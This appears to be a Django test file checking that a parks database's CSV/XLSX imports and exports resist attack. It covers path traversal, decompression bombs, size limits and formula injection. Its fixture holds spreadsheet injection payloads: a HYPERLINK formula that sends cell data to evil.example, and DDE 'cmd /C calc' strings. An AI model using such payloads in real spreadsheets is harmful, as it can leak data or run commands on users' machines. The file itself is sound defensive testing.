"""Imports and exports that cannot be turned against the server or a spreadsheet user."""

import csv
import io
import os
import re
import tempfile
import time
from unittest import mock

import openpyxl
import tablib
from django.conf import settings
from django.core.management import call_command
from django.db import IntegrityError, connection
from django.test import Client, TestCase, TransactionTestCase, override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl.worksheet._reader import WorkSheetParser

from articles.tests.factories import make_article, make_series
from parks.models import DevelopmentPath, Park, Province
from parks.tests.factories import make_industry, make_park, make_province, make_source
from publishing.imports import BoundedXLSX, ImportFileRefused
from publishing.testing import NARROW_ROW, WIDE_ROW, admin_form_data, make_staff, make_superuser, xlsx_file
from rustbelt.tests.workflow import test_import_export

HEADER, THREE_VALID_ROWS = test_import_export.HEADER, test_import_export.THREE_VALID_ROWS

FORMULAE = {
    "name_en": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "city": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}


class PendingImportTests(TestCase):
    """The confirm step never trusts a posted file name."""

    # The same accounts, provinces and upload as the import tests (their tests are not rerun here).
    setUpTestData = test_import_export.ParkImportAdminTests.__dict__["setUpTestData"]
    upload = test_import_export.ParkImportAdminTests.upload

    def confirm_with(self, name):
        action = reverse("admin:parks_park_process_import")
        data = admin_form_data(self.upload(THREE_VALID_ROWS), action=action)
        data["import_file_name"] = [name]
        return self.client.post(action, data, follow=True)

    def test_another_file_in_the_temp_folder_is_neither_read_nor_deleted(self):
        with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as victim:
            victim.write(THREE_VALID_ROWS)
        self.addCleanup(os.remove, victim.name)
        response = self.confirm_with(os.path.basename(victim.name))
        self.assertContains(response, "This import is no longer waiting for confirmation")
        self.assertTrue(os.path.exists(victim.name))
        self.assertFalse(Park.objects.exists())

    def test_a_missing_name_is_a_message_not_a_500(self):
        response = self.confirm_with("0123456789abcdef0123456789abcdef")
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, "This import is no longer waiting for confirmation")

    def test_another_users_pending_import_cannot_be_confirmed(self):
        preview = self.upload(THREE_VALID_ROWS)
        action = reverse("admin:parks_park_process_import")
        data = admin_form_data(preview, action=action)
        self.client.force_login(self.editor)  # a different session
        response = self.client.post(action, data, follow=True)
        self.assertContains(response, "This import is no longer waiting for confirmation")
        self.assertFalse(Park.objects.exists())

    def test_pending_files_are_private(self):
        self.upload(THREE_VALID_ROWS)
        from django.conf import settings

        files = list(os.scandir(settings.IMPORT_TMP_DIR))
        self.assertTrue(files)
        for entry in files:
            self.assertEqual(entry.stat().st_mode & 0o077, 0, entry.path)

    @override_settings(IMPORT_MAX_BYTES=100)
    def test_a_file_above_the_byte_limit_is_refused_with_the_limit(self):
        response = self.upload(THREE_VALID_ROWS)
        self.assertContains(response, "imports are limited to 100\xa0bytes")
        self.assertNotContains(response, "Confirm import")

    @override_settings(IMPORT_MAX_ROWS=2)
    def test_a_file_above_the_row_limit_is_refused_with_the_limit(self):
        response = self.upload(THREE_VALID_ROWS)
        self.assertContains(response, "This file has 3 rows; imports are limited to 2 rows per file.")
        self.assertNotContains(response, "Confirm import")
        self.assertNotContains(response, "Below is a preview")
        self.assertFalse(Park.objects.exists())

    def test_a_slug_twice_is_refused_with_both_row_numbers(self):
        rows = THREE_VALID_ROWS.splitlines()
        duplicate = rows[1].replace("Jilin Economic and Technological Development Zone", "Jilin ETDZ second row")
        response = self.upload("\n".join([*rows, duplicate]) + "\n")
        self.assertContains(response, "The slug “jilin-etdz” appears twice, in rows 1 and 4. Keep one of them.")
        self.assertNotContains(response, "Confirm import")
        self.assertFalse(Park.objects.exists())

    def test_a_header_only_file_is_still_reported(self):
        response = self.upload(HEADER)
        self.assertEqual(response.status_code, 200)


class FormulaExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.editor = make_staff("eddie", "Editors")
        make_park(slug="evil", province=make_province(), **FORMULAE)

    def admin_export(self, file_format):
        self.client.force_login(self.editor)
        url = reverse("admin:parks_park_export")
        data = admin_form_data(self.client.get(url), action="")
        return self.client.post(url, {**data, "format": file_format})

    def assert_neutral(self, cells):
        for name, value in FORMULAE.items():
            self.assertEqual(cells[name], "'" + value, name)

    def test_admin_csv(self):
        rows = list(csv.DictReader(io.StringIO(self.admin_export("0").content.decode())))
        self.assert_neutral(rows[0])

    def test_admin_xlsx(self):
        dataset = tablib.Dataset().load(self.admin_export("1").content, format="xlsx")
        self.assert_neutral(dataset.dict[0])

    def test_public_csv(self):
        content = b"".join(self.client.get(reverse("parks:export-csv")).streaming_content).decode("utf-8-sig")
        row = next(csv.DictReader(io.StringIO(content)))
        self.assertIn("'" + FORMULAE["name_en"], row.values())
        self.assertIn("'" + FORMULAE["city"], row.values())
        for value in row.values():
            self.assertFalse(value.startswith(("=", "+", "@", "\t", "\r")), value)

    def test_figures_csv_and_numbers_stay_numbers(self):
        article = make_article()
        series = make_series(article, points=(("2000", "-1.5"),))
        series.points.update(note="=1+1")
        url = reverse("articles:series-csv", args=[article.slug, series.slug])
        row = next(csv.DictReader(io.StringIO(self.client.get(url).content.decode())))
        self.assertEqual(row["note"], "'=1+1")
        self.assertEqual(row["value"], "-1.5")


class LargeImportTests(TestCase):
    """A file at the row cap is previewed and imported within one request: rows are written in batches,
    so the queries do not grow with the rows (BENCHMARKS.md, "Imports"), and nothing else is lost."""

    setUpTestData = test_import_export.ParkImportAdminTests.__dict__["setUpTestData"]
    upload = test_import_export.ParkImportAdminTests.upload

    def rows(self, count, prefix="park"):
        row = THREE_VALID_ROWS.splitlines()[1].split(",", 1)[1]
        return HEADER + "".join(
            f"{prefix}-{n}," + row.replace("Jilin Economic", f"Park {n} Economic") + "\n" for n in range(count)
        )

    def preview_and_confirm(self, content):
        """The SQL of the preview and of the confirmed import, each one admin request."""
        url = reverse("admin:parks_park_import")
        self.client.force_login(self.researcher)
        data = admin_form_data(self.client.get(url), action="")
        data.update(format="0", import_file=io.BytesIO(content.encode()))
        data["import_file"].name = "parks.csv"
        with CaptureQueriesContext(connection) as preview_queries:
            preview = self.client.post(url, data)
        self.assertContains(preview, "Confirm import")
        action = reverse("admin:parks_park_process_import")
        data = admin_form_data(preview, action=action)
        with CaptureQueriesContext(connection) as confirm_queries:
            response = self.client.post(action, data)
        self.assertEqual(response.status_code, 302)
        return [q["sql"] for q in preview_queries.captured_queries], [
            q["sql"] for q in confirm_queries.captured_queries
        ]

    def assert_batched(self, small, large, added_rows):
        def others(queries):
            return [sql for sql in queries if not sql.startswith(("INSERT", "DELETE"))]

        # Everything but inserts and deletes is the same for 50 and 500 rows: no query per row.
        self.assertEqual(len(others(small)), len(others(large)))
        # Those come in chunks: inserts as large as the database takes (SQLite: 999 parameters, about 30
        # parks), the replaced links' deletes by 100 (Django's collector). A row-by-row import wrote over
        # ten statements per row.
        self.assertLessEqual((len(large) - len(small)) / added_rows, 0.2)

    def test_queries_do_not_grow_with_rows_in_the_preview_or_the_import(self):
        self.preview_and_confirm(self.rows(1, "warm-up"))  # Django's caches: content types, permissions
        small_preview, small_import = self.preview_and_confirm(self.rows(50, "small"))
        large_preview, large_import = self.preview_and_confirm(self.rows(500, "large"))
        self.assert_batched(small_preview, large_preview, 450)
        self.assert_batched(small_import, large_import, 450)
        self.assertEqual(Park.objects.count(), 551)
        # The same files with every park's city edited: each row is an update.
        small_preview, small_import = self.preview_and_confirm(
            self.rows(50, "small").replace(",Jilin,", ",Jilin City,")
        )
        large_preview, large_import = self.preview_and_confirm(
            self.rows(500, "large").replace(",Jilin,", ",Jilin City,")
        )
        self.assert_batched(small_preview, large_preview, 450)
        self.assert_batched(small_import, large_import, 450)
        self.assertEqual(Park.objects.filter(city="Jilin City").count(), 550)
        # The preview wrote no history (its transaction is rolled back); the import starts one new
        # content generation (publishing/generation.py), not one per row.
        self.assertFalse([sql for sql in large_preview if "historical" in sql.lower()])
        self.assertEqual(len([sql for sql in large_import if "contentgeneration" in sql.lower()]), 1)

    def test_imported_parks_have_their_links_and_a_history_that_restores_them(self):
        preview = self.upload(self.rows(3))
        self.assertContains(preview, "fine chemicals;branded food")  # the preview shows the new park's industries
        action = reverse("admin:parks_park_process_import")
        self.client.post(action, admin_form_data(preview, action=action))
        park = Park.objects.get(slug="park-2")
        self.assertEqual(park.name_en, "Park 2 Economic and Technological Development Zone")
        self.assertEqual(sorted(park.industries.values_list("name", flat=True)), ["branded food", "fine chemicals"])
        self.assertEqual(list(park.sources.values_list("citation", flat=True)), ["Xinhua report (2010)"])
        [record] = park.history.all()
        self.assertEqual((record.history_type, record.history_user), ("+", self.researcher))
        self.assertEqual(
            sorted(link.industry.name for link in record.industries.all()), ["branded food", "fine chemicals"]
        )
        self.assertEqual([link.source.citation for link in record.sources.all()], ["Xinhua report (2010)"])

    def test_an_update_replaces_links_raises_the_version_and_is_recorded(self):
        park = make_park(slug="jilin-etdz", name_en="Jilin ETDZ", province=make_province("jilin"))
        park.industries.set([make_industry("petrochemicals")])
        before = Park.objects.get(pk=park.pk)
        preview = self.upload(THREE_VALID_ROWS)
        self.assertContains(preview, "Update")
        action = reverse("admin:parks_park_process_import")
        response = self.client.post(action, admin_form_data(preview, action=action), follow=True)
        self.assertContains(response, "Import finished: 2 new, 1 updated")
        park.refresh_from_db()
        self.assertEqual(sorted(park.industries.values_list("name", flat=True)), ["branded food", "fine chemicals"])
        self.assertEqual(park.version, before.version + 1)
        self.assertGreater(park.updated_at, before.updated_at)
        record = park.history.latest("history_date")
        self.assertEqual((record.history_type, record.history_user, record.version), ("~", self.researcher, 2))
        self.assertEqual(
            sorted(link.industry.name for link in record.industries.all()), ["branded food", "fine chemicals"]
        )

    def test_a_column_left_out_keeps_the_links(self):
        park = make_park(slug="jilin-etdz", name_en="Jilin ETDZ", province=make_province("jilin"))
        park.industries.set([make_industry("petrochemicals")])
        preview = self.upload("slug,name_en,province\njilin-etdz,Jilin ETDZ renamed,jilin\n")
        action = reverse("admin:parks_park_process_import")
        self.client.post(action, admin_form_data(preview, action=action))
        park.refresh_from_db()
        self.assertEqual(park.name_en, "Jilin ETDZ renamed")
        self.assertEqual(list(park.industries.values_list("name", flat=True)), ["petrochemicals"])
        record = park.history.latest("history_date")
        self.assertEqual([link.industry.name for link in record.industries.all()], ["petrochemicals"])

    def test_a_database_error_in_a_batch_is_reported_and_writes_nothing(self):
        preview = self.upload(self.rows(3))
        action = reverse("admin:parks_park_process_import")
        data = admin_form_data(preview, action=action)
        with mock.patch("parks.resources.Park.history.model.objects.bulk_create", side_effect=IntegrityError("boom")):
            response = self.client.post(action, data, follow=True)
        self.assertContains(response, "Nothing was imported: boom")
        self.assertNotContains(response, "Import finished")
        self.assertFalse(Park.objects.exists())
        self.assertFalse(Park.industries.through.objects.exists())

    def test_an_empty_province_is_still_a_row_error(self):
        preview = self.upload(HEADER + "x-zone,X Zone,,,,etdz,,,,,,,,,,\n")
        self.assertContains(preview, "This field cannot be null.")
        self.assertNotContains(preview, "Confirm import")


class ImportRaceTests(TransactionTestCase):
    """A record the file refers to, deleted by someone else while the import runs: a message, not a 500."""

    upload = test_import_export.ParkImportAdminTests.upload

    def setUp(self):
        # What the import tests' file refers to, made afresh (no transaction to roll back here). The
        # researchers' groups come from data migrations, which an earlier TransactionTestCase's flush
        # removed: a superuser imports instead.
        self.researcher = make_superuser()
        for slug, name in [("jilin", "Jilin"), ("heilongjiang", "Heilongjiang"), ("liaoning", "Liaoning")]:
            make_province(slug, name)
        DevelopmentPath.objects.create(slug="urbanization", name="Urbanization", summary="Build the city.")
        for name in ["fine chemicals", "branded food", "petrochemicals"]:
            make_industry(name)
        make_source("Xinhua report (2010)")

    def test_a_province_deleted_before_the_import_commits_imports_nothing(self):
        preview = self.upload(THREE_VALID_ROWS)
        self.assertContains(preview, "Confirm import")
        province_ids = list(Province.objects.values_list("pk", flat=True))
        record_history = Park.history.model.objects.bulk_create

        def delete_provinces_meanwhile(*args, **kwargs):
            # As another researcher's transaction would, after this import has read them: the
            # database checks the parks' references when the import commits.
            with connection.cursor() as cursor:
                cursor.execute(f"DELETE FROM parks_province WHERE id IN ({', '.join(map(str, province_ids))})")
            return record_history(*args, **kwargs)

        action = reverse("admin:parks_park_process_import")
        data = admin_form_data(preview, action=action)
        with mock.patch(
            "parks.resources.Park.history.model.objects.bulk_create", side_effect=delete_provinces_meanwhile
        ):
            response = self.client.post(action, data, follow=True)
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, "Nothing was imported: a province, path, industry or source the file refers to")
        self.assertFalse(Park.objects.exists())
        self.assertEqual(Province.objects.count(), len(province_ids))  # rolled back with the import


def pending_files():
    return set(os.listdir(settings.IMPORT_TMP_DIR)) if os.path.isdir(settings.IMPORT_TMP_DIR) else set()


class XLSXBombTests(TestCase):
    """Small XLSX files that unpack to millions of cells are refused before or as soon as they pass a cap,
    with a message; nothing is imported and the worker is not held."""

    setUpTestData = test_import_export.ParkImportAdminTests.__dict__["setUpTestData"]
    upload = test_import_export.ParkImportAdminTests.upload

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # 5,000 rows x 2,000 columns (about 300 KB, 150 MB unpacked), once honest about its size, once not.
        cls.wide = xlsx_file(WIDE_ROW, 5000, dimension="A1:BXX5000")
        cls.wide_lying = xlsx_file(WIDE_ROW, 5000, dimension="A1:B2")
        # 3,000,000 rows of one column (about 200 KB, 80 MB unpacked), with no declared size.
        cls.long = xlsx_file(NARROW_ROW, 3_000_000)

    def setUp(self):
        self.pending_before = pending_files()

    def upload_counting_rows(self, content):
        """Upload `content` as XLSX; return the response and how many sheet rows openpyxl parsed."""
        parse_row = WorkSheetParser.parse_row
        parsed = []

        def counted(parser, row):
            parsed.append(row)
            if len(parsed) > 6000:  # beyond the 5,000-row cap: the parser should have stopped long before
                raise AssertionError("the sheet was read beyond the row cap")
            return parse_row(parser, row)

        with mock.patch.object(WorkSheetParser, "parse_row", counted):
            response = self.upload(content, name="parks.xlsx", file_format="1")
        return response, len(parsed)

    def assert_refused(self, response, message):
        self.assertEqual(response.status_code, 200)
        self.assertEqual(re.findall(r'<ul class="errorlist"[^>]*><li>(.*?)</li>', response.content.decode()), [message])
        self.assertNotContains(response, "Confirm import")
        self.assertFalse(Park.objects.exists())
        self.assertEqual(pending_files(), self.pending_before)  # the refused file is not kept

    def test_the_bombs_are_small(self):
        self.assertLess(len(self.wide), settings.IMPORT_MAX_BYTES)
        self.assertLess(len(self.long), settings.IMPORT_MAX_BYTES)

    def test_5000_rows_of_2000_columns_are_refused_by_their_unpacked_size_before_a_row_is_read(self):
        response, rows = self.upload_counting_rows(self.wide)
        self.assert_refused(
            response,
            "This file unpacks to 143.1\xa0MB; imports are limited to 50.0\xa0MB. Split it into smaller files.",
        )
        self.assertEqual(rows, 0)

    @override_settings(IMPORT_MAX_UNPACKED_BYTES=10**9)
    def test_2000_columns_declared_are_refused_before_a_row_is_read(self):
        response, rows = self.upload_counting_rows(self.wide)
        self.assert_refused(response, "This file has more than 60 columns; imports are limited to 60 columns.")
        self.assertEqual(rows, 0)

    @override_settings(IMPORT_MAX_UNPACKED_BYTES=10**9)
    def test_2000_columns_undeclared_are_counted_and_refused_before_a_row_is_read(self):
        response, rows = self.upload_counting_rows(self.wide_lying)
        self.assert_refused(response, "This file has more than 60 columns; imports are limited to 60 columns.")
        self.assertEqual(rows, 0)

    def test_3_million_rows_are_refused_by_their_unpacked_size_before_a_row_is_read(self):
        response, rows = self.upload_counting_rows(self.long)
        self.assert_refused(
            response,
            ("This file unpacks to 74.4\xa0MB; imports are limited to 50.0\xa0MB. Split it into smaller files."),
        )
        self.assertEqual(rows, 0)

    @override_settings(IMPORT_MAX_UNPACKED_BYTES=10**9)
    def test_3_million_rows_undeclared_are_counted_and_refused_before_a_row_is_read(self):
        response, rows = self.upload_counting_rows(self.long)
        self.assert_refused(
            response,
            (
                "This file has more than 5,000 rows; imports are limited to 5,000 rows per file. "
                "Split it into smaller files."
            ),
        )
        self.assertEqual(rows, 0)

    @override_settings(IMPORT_MAX_ROWS=100)
    def test_reading_stops_one_row_beyond_the_cap(self):
        # Whatever the checks before it let through, the sheet is read row by row up to the cap.
        book = openpyxl.load_workbook(io.BytesIO(xlsx_file(NARROW_ROW, 10_000)), read_only=True)
        counted = mock.patch.object(WorkSheetParser, "parse_row", autospec=True, side_effect=WorkSheetParser.parse_row)
        with counted as parse_row:
            with self.assertRaisesMessage(ImportFileRefused, "This file has more than 100 rows"):
                BoundedXLSX().read_sheet(book.active)
        self.assertEqual(parse_row.call_count, 102)  # the header, 100 rows, and the one beyond the cap

    @override_settings(IMPORT_MAX_COLUMNS=10)
    def test_reading_stops_at_the_first_row_beyond_the_column_cap(self):
        # Three rows are enough to see it stop after the first; openpyxl spends seconds opening a thousand.
        book = openpyxl.load_workbook(io.BytesIO(xlsx_file(WIDE_ROW, 3)), read_only=True)
        counted = mock.patch.object(WorkSheetParser, "parse_row", autospec=True, side_effect=WorkSheetParser.parse_row)
        with counted as parse_row:
            with self.assertRaisesMessage(ImportFileRefused, "This file has more than 10 columns"):
                BoundedXLSX().read_sheet(book.active)
        self.assertEqual(parse_row.call_count, 1)

    def test_a_column_named_twice_is_refused(self):
        rows = THREE_VALID_ROWS.splitlines()
        rows[0] += ",slug"
        rows[1:] = [f"{row},other-{number}" for number, row in enumerate(rows[1:])]
        response = self.upload("\n".join(rows) + "\n")
        self.assertContains(response, "The column “slug” appears 2 times. Keep one of them.")
        self.assertNotContains(response, "Confirm import")
        self.assertFalse(Park.objects.exists())

    def test_a_column_named_twice_in_xlsx_is_refused(self):
        dataset = tablib.Dataset(
            ["jilin-etdz", "Jilin ETDZ", "jilin", "other"], headers=["slug", "name_en", "province", "slug"]
        )
        response = self.upload(dataset.export("xlsx"), name="parks.xlsx", file_format="1")
        self.assertContains(response, "The column “slug” appears 2 times. Keep one of them.")
        self.assertFalse(Park.objects.exists())


class PreviewExpiryTests(TestCase):
    """A preview left unconfirmed does not stay on the server: it goes after an hour, or at sign-out."""

    setUpTestData = test_import_export.ParkImportAdminTests.__dict__["setUpTestData"]
    upload = test_import_export.ParkImportAdminTests.upload

    def preview(self):
        before = pending_files()
        preview = self.upload(THREE_VALID_ROWS)
        self.assertContains(preview, "Confirm import")
        (name,) = pending_files() - before
        return preview, os.path.join(settings.IMPORT_TMP_DIR, name)

    def age(self, path, seconds):
        then = time.time() - seconds
        os.utime(path, (then, then))

    def test_a_preview_older_than_an_hour_is_deleted_on_the_next_import_request(self):
        _, old = self.preview()
        _, recent = self.preview()
        self.age(old, 3601)
        self.age(recent, 3500)
        self.client.get(reverse("admin:parks_park_import"))
        self.assertFalse(os.path.exists(old))
        self.assertTrue(os.path.exists(recent))

    def test_the_command_deletes_previews_older_than_an_hour(self):
        _, old = self.preview()
        _, recent = self.preview()
        self.age(old, 3601)
        call_command("expire_imports", verbosity=0)
        self.assertFalse(os.path.exists(old))
        self.assertTrue(os.path.exists(recent))

    def test_an_expired_preview_cannot_be_confirmed(self):
        preview, path = self.preview()
        self.age(path, 3601)
        call_command("expire_imports", verbosity=0)
        response = test_import_export.ParkImportAdminTests.confirm(self, preview)
        self.assertContains(response, "This import is no longer waiting for confirmation")
        self.assertFalse(Park.objects.exists())

    def test_signing_out_deletes_this_sessions_previews_only(self):
        _, mine = self.preview()
        other = Client()
        other.force_login(self.editor)
        url = reverse("admin:parks_park_import")
        data = admin_form_data(other.get(url), action="")
        upload = io.BytesIO(THREE_VALID_ROWS.encode())
        upload.name = "parks.csv"
        before = pending_files()
        self.assertContains(other.post(url, {**data, "format": "0", "import_file": upload}), "Confirm import")
        (theirs,) = pending_files() - before
        self.client.post(reverse("admin:logout"))
        self.assertFalse(os.path.exists(mine))
        self.assertTrue(os.path.exists(os.path.join(settings.IMPORT_TMP_DIR, theirs)))
